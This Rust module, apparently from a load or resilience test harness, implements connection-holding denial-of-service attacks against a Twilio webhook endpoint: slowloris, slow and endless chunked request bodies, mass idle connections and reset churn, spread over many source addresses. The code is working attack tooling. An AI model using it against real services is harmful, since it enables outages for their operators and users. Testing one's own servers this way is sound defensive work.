//! Attacks that hold connections.

use super::kind::Count;
use super::socket::{Pace, connect_from};
use futures::future::join_all;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout_at};

const HEAD: &str = "POST /webhook/twilio HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\
                    X-Twilio-Signature: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n";
/// Addresses that the held connections come from.
const ADDRESSES: u32 = 50;
/// Connections are opened over so long, and opened again so long after they were closed.
const SPREAD: Duration = Duration::from_secs(2);

pub(super) async fn slowloris(to: SocketAddr, until: Instant, count: &Count) {
    let begin = b"POST /webhook/twilio HTTP/1.1\r\nHost: a\r\nX: ".to_vec();
    many(2_000, to, until, count, &begin, Some(Duration::from_secs(1))).await;
}

pub(super) async fn slow_bodies(to: SocketAddr, until: Instant, count: &Count) {
    let begin = format!("{HEAD}Content-Length: 200000\r\n\r\n{}", "a".repeat(4_000)).into_bytes();
    let slow = many(1_000, to, until, count, &begin, Some(Duration::from_secs(1)));
    tokio::join!(slow, endless(to, until, count));
}

pub(super) async fn idle(to: SocketAddr, until: Instant, count: &Count) {
    many(10_000, to, until, count, b"", None).await;
}

/// Keeps `number` connections open: each sends `begin` and then a byte per `drip`.
async fn many(
    number: u32,
    to: SocketAddr,
    until: Instant,
    count: &Count,
    begin: &[u8],
    drip: Option<Duration>,
) {
    let one = |n: u32| async move {
        sleep(SPREAD.mul_f64(f64::from(n) / f64::from(number))).await;
        while Instant::now() < until {
            count.offered();
            let held = async {
                let mut stream = connect_from(n % ADDRESSES, to).await?;
                stream.write_all(begin).await?;
                hold(&mut stream, drip).await
            };
            if timeout_at(until, held).await.is_ok() {
                count.refused();
                let _ = timeout_at(until, sleep(SPREAD)).await;
            }
        }
    };
    join_all((0..number).map(one)).await;
}

/// Ends when the other side closes or answers.
async fn hold(stream: &mut TcpStream, drip: Option<Duration>) -> anyhow::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let dripping = async {
        let Some(pause) = drip else { return std::future::pending().await };
        loop {
            sleep(pause).await;
            writer.write_all(b"a").await?;
        }
    };
    let mut sink = [0; 64];
    tokio::select! {
        _ = reader.read(&mut sink) => Ok(()),
        ended = dripping => ended,
    }
}

/// Bodies that are sent as fast as they are taken.
async fn endless(to: SocketAddr, until: Instant, count: &Count) {
    let chunk = format!("1000\r\n{}\r\n", "a".repeat(4_096)).into_bytes();
    let head = format!("{HEAD}Transfer-Encoding: chunked\r\n\r\n").into_bytes();
    let mut pace = Pace::new(20.0, until);
    let mut n = 0;
    while pace.turn().await {
        n += 1;
        count.offered();
        let sent = async {
            let mut stream = connect_from(n, to).await?;
            stream.write_all(&head).await?;
            loop {
                stream.write_all(&chunk).await?;
            }
        };
        let _: Result<anyhow::Result<()>, _> = timeout_at(until, sent).await;
        count.refused();
    }
}

pub(super) async fn churn(to: SocketAddr, until: Instant, count: &Count) {
    let mut pace = Pace::new(1_000.0, until);
    let mut n = 0;
    while pace.turn().await {
        n += 1;
        count.offered();
        match connect_from(n, to).await {
            // Dropped with a reset.
            Ok(stream) => drop(stream.set_zero_linger()),
            Err(_) => count.refused(),
        }
    }
}
